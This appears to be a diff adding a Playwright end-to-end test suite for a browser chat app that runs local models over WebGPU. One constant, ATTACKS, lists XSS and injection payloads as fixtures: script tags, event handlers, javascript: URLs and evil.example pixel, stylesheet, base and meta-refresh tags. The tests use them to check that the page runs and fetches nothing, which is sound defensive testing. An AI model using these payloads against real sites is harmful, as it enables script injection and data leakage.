@@ -1,0 +1,666 @@
+"""The page as a person meets it: in Chromium with a software GPU, and in WebKit where Playwright has it."""
+
+from __future__ import annotations
+
+import json
+import re
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, Page, Route, expect
+
+from devtools.page_server import PageServer
+from tests_e2e.conftest import BOOT_S, GOLDENS, ORGANISATION, Visited, watched
+
+MODEL = "qwen3-mlx4-g128"
+OTHER = "gemma3-text-bf16"
+UI_S = 30_000  # ms: the machine may be busy; on an idle one the page takes half a second
+ENGINE_S = BOOT_S * 1000  # ms
+
+# What must never run or be fetched. `hit` counts what ran.
+ATTACKS = r"""
+<script>hit()</script>
+<img src="https://evil.example/a.png" onerror="hit()">
+<svg onload="hit()"><iframe src="javascript:hit()"></iframe>
+![pixel](https://evil.example/pixel.png?secret=1)
+![x](javascript:hit())  [run](javascript:hit()) [data](data:text/html,<script>hit()</script>)
+[vb](vbscript:hit) [tab](java	script:hit()) [amp](javascript&colon;hit())
+[break](https://evil.example/" onclick="hit()) [ok](https://good.example/path_(x)?a=1&b=2)
+<a href="javascript:hit()">a</a> <javascript:hit()> <https://good.example/auto>
+`<script>hit()</script>` **<b onclick=hit()>bold</b>** &lt;script&gt;
+
+| <img src=x onerror=hit()> | b |
+|---|---|
+| ![t](https://evil.example/t.png) | <script>hit()</script> |
+
+```html"><script>hit()</script>
+<script>hit()</script>
+```
+> - # <style>body{display:none}</style>
+<style>@import "https://evil.example/s.css";</style>
+<link rel=stylesheet href=https://evil.example/l.css><base href=https://evil.example/>
+<form action=https://evil.example><button>go</button></form><meta http-equiv=refresh content="0;url=https://evil.example">
+"""
+FORBIDDEN = (
+    "script, img, iframe, style, link, svg:not(.icon svg), object, embed, form, base, meta, video"
+)
+
+SAMPLE = """# Title
+
+A *word*, a **strong one**, `code`, ~~gone~~ and ***both***; snake_case_name, 2 * 3 * 4.
+Second line with https://good.example/a_b. [named](https://good.example "t")
+
+- one
+- two
+  - inner *x*
+- [x] done
+
+3. three
+4. four
+
+   with a paragraph
+
+> quoted
+> twice
+
+| a | b |
+|:--|--:|
+| 1 | `2\\|3` |
+
+```python
+def f(x):
+    return x  # ** not bold **
+```
+---
+Unfinished **bold and `code
+"""
+SAMPLE_HTML = (
+    "<h1>Title</h1><p>A <em>word</em>, a <strong>strong one</strong>, <code>code</code>, "
+    "<del>gone</del> and <strong><em>both</em></strong>; snake_case_name, 2 * 3 * 4.<br>"
+    'Second line with <a href="https://good.example/a_b">https://good.example/a_b</a>. '
+    '<a href="https://good.example/">named</a></p>'
+    "<ul><li>one</li><li>two<ul><li>inner <em>x</em></li></ul></li><li>☑ done</li></ul>"
+    '<ol start="3"><li><p>three</p></li><li><p>four</p><p>with a paragraph</p></li></ol>'
+    "<blockquote><p>quoted<br>twice</p></blockquote>"
+    "<table><thead><tr><th>a</th><th>b</th></tr></thead>"
+    "<tbody><tr><td>1</td><td><code>2|3</code></td></tr></tbody></table>"
+    "<pre>python|def f(x):\n    return x  # ** not bold **</pre>"
+    "<hr><p>Unfinished **bold and `code</p>"
+)
+# The DOM in few words: no attributes but href and start, frames of tables and code taken off.
+PLAIN = r"""root => {
+  const plain = node => {
+    if (node.nodeType === Node.TEXT_NODE) return node.data;
+    if (node.className === 'code')
+      return `<pre>${node.querySelector('span').textContent}|${node.querySelector('code').textContent}</pre>`;
+    const inner = [...node.childNodes].map(plain).join('');
+    const tag = node.localName;
+    if (tag === 'div') return inner;
+    if (tag === 'br' || tag === 'hr') return `<${tag}>`;
+    const attribute = tag === 'a' ? ` href="${node.href}"` : tag === 'ol' ? ` start="${node.start}"` : '';
+    return `<${tag}${attribute}>${inner}</${tag}>`;
+  };
+  return plain(root);
+}"""
+
+# A page of the tests: the app's renderer in MicroPython, fed whole and one character at a time.
+RENDERER_PAGE = """<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,">
+<link rel="stylesheet" href="vendor/pyscript/core.css">
+<script type="module" src="vendor/pyscript/core.js"></script>
+<template id="t-code"><div class="code"><span></span><pre><code></code></pre></div></template>
+<p id="announce"></p><div id="whole"></div><div id="pieces"></div>
+<script type="mpy" src="renderer.py" config="renderer.json"></script>"""
+RENDERER = f"""
+import time
+from js import document, window
+from app.markdown import Markdown
+
+FORBIDDEN = {FORBIDDEN!r}
+
+def render(text):
+    whole, pieces = document.getElementById("whole"), document.getElementById("pieces")
+    whole.replaceChildren()
+    pieces.replaceChildren()
+    markdown = Markdown(whole)
+    markdown.feed(text)
+    markdown.render(True)
+    markdown = Markdown(pieces)
+    for character in text:
+        markdown.feed(character)
+        markdown.render()
+        if pieces.querySelector(FORBIDDEN) is not None:
+            return "forbidden"
+    markdown.feed("")
+    markdown.render(True)
+    return "same" if whole.innerHTML == pieces.innerHTML else pieces.innerHTML
+
+def render_once(text):
+    whole = document.getElementById("whole")
+    whole.replaceChildren()
+    began = time.ticks_ms()
+    markdown = Markdown(whole)
+    markdown.feed(text)
+    markdown.render(True)
+    return time.ticks_diff(time.ticks_ms(), began)
+
+window.render_once = render_once
+window.render = render
+"""
+RENDERER_CONFIG = {
+    "interpreter": "vendor/mpy/micropython.mjs",
+    "files": {"app/markdown.py": "app/markdown.py"},
+    "js_modules": {"main": {"nodes.mjs": "nodes"}},
+}
+
+
+def chat(name: str, *turns: str, updated: str = "2026-11-22T00:00:00.000Z") -> dict[str, str]:
+    """A kept chat, as localStorage items."""
+    roles = ("user", "assistant")
+    messages = [{"role": roles[i % 2], "content": text} for i, text in enumerate(turns)]
+    body = {"id": name, "title": turns[0], "updated": updated, "messages": messages}
+    return {
+        f"jerboa.chat.{name}": json.dumps(body, ensure_ascii=False),
+        f"jerboa.title.{name}": json.dumps({"title": turns[0], "updated": updated}),
+    }
+
+
+class Visit:
+    """A fresh profile's page. `hold` keeps the engine's worker from starting: what is left is the page alone."""
+
+    def __init__(
+        self, browser: Browser, site: PageServer, *, hold: bool = True, **options: Any
+    ) -> None:
+        self.site = site
+        self.context, self.outside = watched(browser, site)
+        self.asked: list[str] = []
+        self.refused: list[str] = []
+        self.context.on("request", lambda r: self.asked.append(r.url.removeprefix(site.url)))
+        if hold:
+            self.context.route("**/worker.mjs", lambda route: None)
+        self.page = self.context.new_page()
+        if options:
+            self.page.set_viewport_size(options["viewport"])
+        self.page.on("console", self._heard)
+        self.errors: list[str] = []
+        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
+        self.page.add_init_script("window.hits = 0; window.hit = () => { window.hits += 1; };")
+
+    def _heard(self, message: Any) -> None:
+        if "Content Security Policy" in message.text or "Content-Security-Policy" in message.text:
+            self.refused.append(message.text)
+        if "Traceback" in message.text:
+            self.errors.append(message.text)
+
+    def keep(self, items: dict[str, str]) -> None:
+        """Put items into localStorage before the page's first script, once."""
+        script = (
+            "items => { for (const [k, v] of Object.entries(items)) localStorage.setItem(k, v); }"
+        )
+        blank = self.context.new_page()
+        blank.goto(self.site.url + "probe.html")
+        blank.evaluate(script, items)
+        blank.close()
+
+    def open(self, query: str = "") -> Page:
+        """Go there, and wait until it can be used."""
+        self.page.goto(self.site.url + query)
+        self.page.wait_for_selector("body[data-ui=ready][data-config=ready]", timeout=UI_S)
+        return self.page
+
+    def close(self) -> None:
+        """Leave. Nothing may have asked another host, broken the policy or raised."""
+        self.context.close()
+        assert not self.outside
+        assert not self.refused
+        assert not self.errors
+
+
+@pytest.fixture
+def visit(browser: Browser, site: PageServer) -> Iterator[Visit]:
+    """The page without its engine, two models on offer."""
+    offer(site)
+    visit = Visit(browser, site)
+    yield visit
+    visit.close()
+
+
+def offer(site: PageServer) -> None:
+    """Two tiny models in the list, the first the default."""
+    site.site.offered = [
+        {
+            "id": f"{ORGANISATION}/{name}",
+            "label": f"Tiny {name}",
+            "kind": kind,
+            "note": "Random weights.",
+            "size": 5_000_000,
+            "endpoint": "local",
+            "default": not number,
+        }
+        for number, (name, kind) in enumerate(((MODEL, "chat"), (OTHER, "base")))
+    ]
+
+
+# ---- without the engine
+
+
+def test_usable_before_the_engine_boots_and_nothing_loads_unasked(visit: Visit) -> None:
+    page = visit.open()
+    expect(page.locator(".choice")).to_have_count(2)
+    expect(page.locator(".choice").first).to_contain_text("5 MB")
+    expect(page.locator(".choice .fit").first).not_to_be_empty()
+    page.fill("#prompt", "hello")
+    expect(page.locator("#send")).to_be_enabled()
+    page.click("[data-do=open-settings]")
+    expect(page.locator("#settings")).to_be_visible()
+    assert not [path for path in visit.asked if path.startswith("models/")]
+    assert page.locator("body").get_attribute("data-model") == "none"
+
+
+def test_hostile_answers_run_nothing_and_fetch_nothing(visit: Visit) -> None:
+    visit.keep(chat("attack", ATTACKS, ATTACKS))
+    page = visit.open()
+    page.click("#chats .open")
+    answer = page.locator(".answer .text")
+    expect(answer).to_contain_text("<script>hit()</script>")
+    expect(answer).to_contain_text('<img src="https://evil.example/a.png" onerror="hit()">')
+    expect(page.locator(".user .bubble")).to_contain_text("<script>hit()</script>")
+    before = len(visit.asked)
+    page.wait_for_timeout(300)
+    assert page.evaluate("hits") == 0
+    assert answer.locator(FORBIDDEN).count() == 0
+    links = answer.locator("a").evaluate_all("all => all.map(a => [a.protocol, a.rel])")
+    assert {"https:"} == {protocol for protocol, _ in links}
+    assert all("noopener" in rel for _, rel in links)
+    assert not [p for p in visit.asked[before:] if "evil" in p or "good" in p]
+    handlers = "all => all.flatMap(n => n.getAttributeNames()).filter(n => n.startsWith('on'))"
+    assert answer.locator("*").evaluate_all(handlers) == []
+
+
+def test_markdown_is_the_same_whole_and_in_pieces(visit: Visit) -> None:
+    parts = {
+        "renderer.html": (RENDERER_PAGE, "text/html"),
+        "renderer.py": (RENDERER, "text/x-python"),
+        "renderer.json": (json.dumps(RENDERER_CONFIG), "application/json"),
+    }
+
+    def serve(route: Route) -> None:
+        body, kind = parts[route.request.url.rpartition("/")[2]]
+        route.fulfill(body=body, content_type=kind)
+
+    visit.context.route("**/renderer.*", serve)
+    page = visit.page
+    page.goto(visit.site.url + "renderer.html")
+    page.wait_for_function("'render' in window", timeout=UI_S)
+    assert page.evaluate("text => render(text)", SAMPLE) == "same"
+    assert page.locator("#whole").evaluate(PLAIN) == SAMPLE_HTML
+    assert page.evaluate("text => render(text)", ATTACKS) == "same"
+    assert page.evaluate("hits") == 0
+    # Deep nesting and openers that nothing closes neither raise nor take long.
+    deep = ">" * 3000 + " a\n\n" + "- " * 500 + "b\n\n" + "[" * 2000 + "\n\n" + "*a " * 1500
+    assert page.evaluate("text => render_once(text)", deep) < 5000
+    assert page.locator("#whole").inner_text().count(">") > 2900
+
+
+def test_keyboard_alone(visit: Visit) -> None:
+    page = visit.open()
+    page.keyboard.press("Tab")
+    expect(page.locator(".skip")).to_be_focused()
+    page.keyboard.press("Enter")
+    page.wait_for_function("document.activeElement.id === 'prompt' || location.hash === '#prompt'")
+    page.focus("#prompt")
+    page.keyboard.type("one")
+    page.keyboard.press("Shift+Enter")
+    page.keyboard.type("two")
+    assert page.input_value("#prompt") == "one\ntwo"
+    page.keyboard.press("Enter")  # no model is loaded: choose one first, and keep the text
+    expect(page.locator("#models")).to_be_visible()
+    expect(page.locator("#dialog-picker .choice")).to_have_count(2)
+    page.keyboard.press("Escape")
+    expect(page.locator("#models")).to_be_hidden()
+    assert page.input_value("#prompt") == "one\ntwo"
+    expect(page.locator("#hero-picker .choice")).to_have_count(2)
+
+
+def test_everything_that_can_be_used_has_a_name(visit: Visit) -> None:
+    visit.keep(chat("one", "a question", "```py\nx\n```\nan answer"))
+    page = visit.open()
+    page.click("#chats .open")
+    nameless = """() => [...document.querySelectorAll('button, input, textarea, summary, a, dialog, progress')].filter(n =>
+      !n.textContent.trim() && !n.getAttribute('aria-label') && !n.getAttribute('aria-labelledby') &&
+      !n.labels?.length && n.type !== 'file').map(n => n.outerHTML)"""
+    assert page.evaluate(nameless) == []
+    assert page.locator("#announce").get_attribute("aria-live") == "polite"
+    assert page.locator("html").get_attribute("lang") == "en"
+
+
+def test_settings_are_kept_and_wrong_ones_are_not(visit: Visit) -> None:
+    page = visit.open()
+    page.click("[data-do=open-settings]")
+    page.fill("[name=system]", "Be brief. \U0001f400")
+    page.fill("[name=temperature]", "0.7")
+    page.fill("[name=top_p]", "7")
+    page.fill("[name=seed]", "4294967295")
+    page.uncheck("[name=thinking]")
+    page.keyboard.press("Escape")
+    page = visit.open()
+    page.click("[data-do=open-settings]")
+    assert page.input_value("[name=system]") == "Be brief. \U0001f400"
+    assert page.input_value("[name=temperature]") == "0.7"
+    assert page.input_value("[name=top_p]") == ""
+    assert page.input_value("[name=seed]") == "4294967295"
+    assert not page.is_checked("[name=thinking]")
+    page.click("[data-do=reset-settings]")
+    assert page.input_value("[name=temperature]") == ""
+    assert page.evaluate("localStorage.getItem('jerboa.settings')") is None
+
+
+def test_chats_are_listed_exported_and_deleted(visit: Visit) -> None:
+    visit.keep(chat("old", "first one", "An *answer* \U0001f400", updated="2026-01-01T00:00:00Z"))
+    visit.keep(chat("new", "second one", "<think>hm</think>\n\nYes."))
+    page = visit.open()
+    assert page.locator("#chats .open").all_inner_texts() == ["second one", "first one"]
+    page.click("#chats .open >> nth=0")
+    expect(page.locator(".answer .text")).to_have_text("Yes.")
+    expect(page.locator(".answer .thinking")).to_contain_text("hm")
+    page.click("#chats .open >> nth=1")
+    expect(page.locator(".answer em")).to_have_text("answer")
+
+    page.click("#chat-menu summary")
+    with page.expect_download() as made:
+        page.click("[data-do=export-markdown]")
+    assert made.value.suggested_filename == "first-one.md"
+    text = Path(made.value.path()).read_text(encoding="utf-8")
+    assert "## You\n\nfirst one" in text and "An *answer* \U0001f400" in text
+    page.click("#chat-menu summary")
+    with page.expect_download() as made:
+        page.click("[data-do=export-json]")
+    kept = json.loads(Path(made.value.path()).read_text(encoding="utf-8"))
+    assert [m["role"] for m in kept["messages"]] == ["user", "assistant"]
+
+    page.click("#chat-menu summary")
+    page.click("#chat-menu [data-do=delete-chat]")
+    page.click("#confirm [value=no]")
+    assert page.locator("#chats li").count() == 2
+    page.click("#chat-menu summary")
+    page.click("#chat-menu [data-do=delete-chat]")
+    page.click("#confirm [value=yes]")
+    expect(page.locator("#chats li")).to_have_count(1)
+    expect(page.locator("#hero")).to_be_visible()
+    page.click("[data-do=open-settings]")
+    with page.expect_download() as made:
+        page.click("[data-do=export-all]")
+    assert len(json.loads(Path(made.value.path()).read_text(encoding="utf-8"))["chats"]) == 1
+    page.click("[data-do=delete-all]")
+    page.click("#confirm [value=yes]")
+    expect(page.locator("#chats li")).to_have_count(0)
+    left = "Object.keys(localStorage).filter(k => /^jerboa.(chat|title)/.test(k))"
+    assert page.evaluate(left) == []
+
+
+def test_a_full_store_is_said_and_the_page_goes_on(visit: Visit) -> None:
+    page = visit.open()
+    page.evaluate("""() => {
+      let text = 'x'.repeat(1 << 20);
+      for (let i = 0; text; i++) {
+        try { localStorage.setItem('fill' + i, text); } catch { text = text.slice(1 + text.length / 2); }
+      }
+    }""")
+    page.click("[data-do=open-settings]")
+    page.fill("[name=system]", "y" * 2000)
+    page.keyboard.press("Tab")
+    page.keyboard.press("Escape")
+    expect(page.locator("#notice")).to_contain_text("full")
+
+
+def test_a_chat_that_cannot_be_read_does_no_harm(visit: Visit) -> None:
+    visit.keep(
+        {"jerboa.chat.bad": "{", "jerboa.title.bad": '{"title": "bad"}', "jerboa.settings": "[1"}
+    )
+    page = visit.open()
+    page.click("#chats .open")
+    expect(page.locator("#hero")).to_be_visible()
+
+
+def test_phone_layout_and_drawer(browser: Browser, site: PageServer) -> None:
+    offer(site)
+    visit = Visit(browser, site, viewport={"width": 390, "height": 844})
+    visit.keep(
+        chat("one", "a question " * 9, "word " * 300 + "\n\n```\n" + "long line " * 60 + "\n```")
+    )
+    page = visit.open()
+    expect(page.locator("#sidebar")).to_be_hidden()
+    page.click("#open-sidebar")
+    expect(page.locator(".new")).to_be_focused()
+    page.keyboard.press("Escape")
+    expect(page.locator("#sidebar")).to_be_hidden()
+    expect(page.locator("#open-sidebar")).to_be_focused()
+    page.click("#open-sidebar")
+    page.click("#chats .open")
+    expect(page.locator(".answer pre")).to_be_attached()
+    assert page.evaluate("document.documentElement.scrollWidth") <= 390
+    assert page.locator("#scroll").evaluate("n => n.scrollWidth - n.clientWidth") <= 0
+    visit.close()
+
+
+@pytest.mark.parametrize("missing", ["adapter", "api"])
+def test_without_webgpu_the_page_explains_itself(
+    blind_chromium: Browser, site: PageServer, missing: str
+) -> None:
+    offer(site)
+    visit = Visit(blind_chromium, site, hold=False)
+    visit.keep(chat("kept", "an old question", "an old **answer**"))
+    if missing == "api":
+        visit.page.add_init_script("delete Navigator.prototype.gpu")
+    page = visit.open()
+    card = page.locator("#hero-picker .problem")
+    title = "No GPU answered" if missing == "adapter" else "This browser has no WebGPU"
+    expect(card).to_contain_text(title, timeout=UI_S)
+    expect(card).to_have_attribute("role", "alert")
+    page.click("#chats .open")
+    expect(page.locator(".answer strong")).to_have_text("answer")
+    page.fill("#prompt", "hello?")
+    expect(page.locator("#send")).to_be_disabled()
+    page.click("#model")
+    expect(page.locator("#notice")).to_contain_text(title)
+    assert "worker.mjs" not in visit.asked
+    visit.close()
+
+
+# ---- with the engine and a tiny model of random weights
+
+
+@pytest.fixture(scope="module")
+def engine_page(visited: Visited, site: PageServer) -> Iterator[Page]:
+    """A page with the tiny model loaded; no frame is ever drawn, as in a hidden tab."""
+    offer(site)
+    page = visited.context.new_page()
+    page.add_init_script("window.requestAnimationFrame = () => 0;")
+    page.goto(site.url + "?context=512")
+    page.wait_for_selector("body[data-ui=ready]", timeout=UI_S)
+    page.wait_for_function("document.body.dataset.engine", timeout=ENGINE_S)
+    if page.locator("body").get_attribute("data-engine") == "none":
+        page.close()
+        pytest.skip("this browser has no WebGPU")
+    page.evaluate("""localStorage.setItem('jerboa.settings',
+      JSON.stringify({temperature: 0, max_tokens: 24}))""")
+    page.reload()
+    page.wait_for_selector(".choice", timeout=UI_S)
+    page.wait_for_selector("body[data-engine=ready]", timeout=ENGINE_S)
+    load(page)
+    yield page
+    page.close()
+
+
+def load(page: Page, name: str = MODEL) -> None:
+    """Choose it and wait."""
+    page.click("#model")
+    page.check(f"#dialog-picker input[value='{ORGANISATION}/{name}']")
+    page.click("#dialog-picker button[type=submit]")
+    page.wait_for_selector("body[data-model=ready]", timeout=ENGINE_S)
+
+
+def ask(page: Page, text: str) -> str:
+    """Send it; the finished answer."""
+    page.fill("#prompt", text)
+    page.press("#prompt", "Enter")
+    return finished(page)
+
+
+def finished(page: Page) -> str:
+    """The last answer, once it is done."""
+    page.wait_for_selector(".message.answer:last-child:not(.streaming)", timeout=ENGINE_S)
+    return page.locator(".message.answer").last.inner_text()
+
+
+@pytest.fixture
+def new_chat(engine_page: Page) -> Page:
+    """An empty chat in the page of the engine."""
+    engine_page.click(".new")
+    expect(engine_page.locator("#hero")).to_be_visible()
+    return engine_page
+
+
+def kept_messages(page: Page) -> list[dict[str, Any]]:
+    """The newest chat in the store."""
+    newest = """() => Object.keys(localStorage).filter(k => k.startsWith('jerboa.chat.'))
+      .map(k => JSON.parse(localStorage.getItem(k)))
+      .sort((a, b) => a.updated < b.updated ? 1 : -1)[0].messages"""
+    messages: list[dict[str, Any]] = page.evaluate(newest)
+    return messages
+
+
+def test_a_model_answers_and_the_chat_is_kept(new_chat: Page) -> None:
+    ask(new_chat, "hello")
+    stats = new_chat.locator(".answer .stats")
+    expect(stats).to_contain_text(re.compile(r"first token .* s"))
+    expect(stats).to_contain_text(re.compile(r"\d+ tokens?"))
+    expect(new_chat.locator("#context")).to_contain_text(re.compile(r"Context \d+ of 512"))
+    messages = kept_messages(new_chat)
+    assert messages[0] == {"role": "user", "content": "hello"}
+    assert messages[1]["stats"]["finish"] in ("stop", "length")
+    assert messages[1]["stats"]["tokens"] <= 24
+    assert new_chat.locator("#chats .open").first.inner_text() == "hello"
+    ask(new_chat, "and again")
+    assert len(kept_messages(new_chat)) == 4
+
+
+def test_answering_again_gives_the_same_at_temperature_0(new_chat: Page) -> None:
+    ask(new_chat, "tell me")
+    first = kept_messages(new_chat)[1]["content"]
+    new_chat.click(".answer [data-do=again]")
+    finished(new_chat)
+    messages = kept_messages(new_chat)
+    assert len(messages) == 2
+    assert messages[1]["content"] == first
+
+
+def test_an_edited_message_replaces_what_came_after(new_chat: Page) -> None:
+    ask(new_chat, "one")
+    ask(new_chat, "two")
+    new_chat.click(".user [data-do=edit] >> nth=0")
+    box = new_chat.locator(".edit textarea")
+    expect(box).to_be_focused()
+    new_chat.keyboard.press("Escape")
+    expect(box).to_have_count(0)
+    new_chat.click(".user [data-do=edit] >> nth=0")
+    box.fill("three")
+    box.press("Enter")
+    finished(new_chat)
+    assert [m["content"] for m in kept_messages(new_chat) if m["role"] == "user"] == ["three"]
+
+
+def test_stop_is_instant_and_the_next_answer_is_right(new_chat: Page) -> None:
+    ask(new_chat, "right")
+    right = kept_messages(new_chat)[1]["content"]
+    new_chat.click(".new")
+    new_chat.fill("#prompt", "x " * 60)
+    new_chat.press("#prompt", "Enter")
+    expect(new_chat.locator("#stop")).to_be_visible()
+    new_chat.keyboard.press("Escape")
+    expect(new_chat.locator("#send")).to_be_visible(timeout=1000)
+    expect(new_chat.locator(".answer .stats").last).to_contain_text("stopped")
+    new_chat.click(".new")
+    ask(new_chat, "right")
+    assert kept_messages(new_chat)[1]["content"] == right
+
+
+def test_an_answer_goes_on_while_another_chat_is_open(new_chat: Page) -> None:
+    ask(new_chat, "the other one")
+    new_chat.click(".new")
+    new_chat.fill("#prompt", "goes on")
+    new_chat.press("#prompt", "Enter")
+    new_chat.click("#chats .open:has-text('the other one') >> nth=0")
+    expect(new_chat.locator(".user .bubble")).to_have_text("the other one")
+    expect(new_chat.locator("#send")).to_be_visible(timeout=ENGINE_S)
+    assert kept_messages(new_chat)[0]["content"] == "goes on"
+    assert kept_messages(new_chat)[1]["stats"]["finish"] in ("stop", "length")
+
+
+def test_too_long_a_chat_says_so_where_it_happened(new_chat: Page) -> None:
+    new_chat.fill("#prompt", "word " * 200)
+    new_chat.press("#prompt", "Enter")
+    problem = new_chat.locator(".answer .problem")
+    expect(problem).to_contain_text("512", timeout=ENGINE_S)
+    problem.locator("[data-do=new-chat]").click()
+    ask(new_chat, "short")
+    assert len(kept_messages(new_chat)) == 2
+
+
+def test_a_base_model_continues_and_a_failed_load_can_be_tried_again(
+    new_chat: Page, site: PageServer
+) -> None:
+    folder = site.site.models / ORGANISATION / OTHER
+    hidden = folder.with_name(OTHER + "-hidden")
+    folder.rename(hidden)
+    try:
+        new_chat.click("#model")
+        new_chat.check(f"#dialog-picker input[value='{ORGANISATION}/{OTHER}']")
+        new_chat.click("#dialog-picker button[type=submit]")
+        expect(new_chat.locator("#notice")).to_contain_text(
+            f"Tiny {OTHER} did not load", timeout=ENGINE_S
+        )
+    finally:
+        hidden.rename(folder)
+    new_chat.click("#notice [data-do=reload-model]")
+    new_chat.wait_for_selector("body[data-model=ready]", timeout=ENGINE_S)
+    expect(new_chat.locator("#hero-text")).to_contain_text("base model")
+    ask(new_chat, "Once upon")
+    assert kept_messages(new_chat)[1]["stats"]["finish"] in ("stop", "length")
+    load(new_chat)
+
+
+def test_loading_can_be_cancelled(new_chat: Page, site: PageServer) -> None:
+    site.site.stall_s = 4.0  # type: ignore[attr-defined]
+    try:
+        new_chat.click("#model")
+        new_chat.check(f"#dialog-picker input[value='{ORGANISATION}/{OTHER}']")
+        new_chat.click("#dialog-picker button[type=submit]")
+        expect(new_chat.locator("#load")).to_be_visible()
+        new_chat.click("[data-do=cancel-load]")
+        expect(new_chat.locator("body")).to_have_attribute("data-model", "none", timeout=1000)
+        expect(new_chat.locator("#load")).to_be_hidden()
+    finally:
+        site.site.stall_s = 0.0  # type: ignore[attr-defined]
+    load(new_chat)
+    ask(new_chat, "after that")
+    assert kept_messages(new_chat)[1]["stats"]["finish"] in ("stop", "length")
+
+
+def test_a_folder_of_ones_own(new_chat: Page, tmp_path: Path) -> None:
+    empty = tmp_path / "empty"
+    empty.mkdir()
+    (empty / "notes.gguf").write_bytes(b"GGUF")
+    picker = new_chat.locator("input[type=file]")
+    picker.set_input_files(empty)
+    expect(new_chat.locator("#notice")).to_contain_text("convert")
+    folder = tmp_path / "mine"
+    shutil.copytree(GOLDENS / MODEL, folder)
+    picker.set_input_files(folder)
+    expect(new_chat.locator("#model-name")).to_have_text("mine")
+    new_chat.wait_for_selector("body[data-model=ready]", timeout=ENGINE_S)
+    ask(new_chat, "from a folder")
+    assert kept_messages(new_chat)[1]["model"] == "mine"
+    load(new_chat)
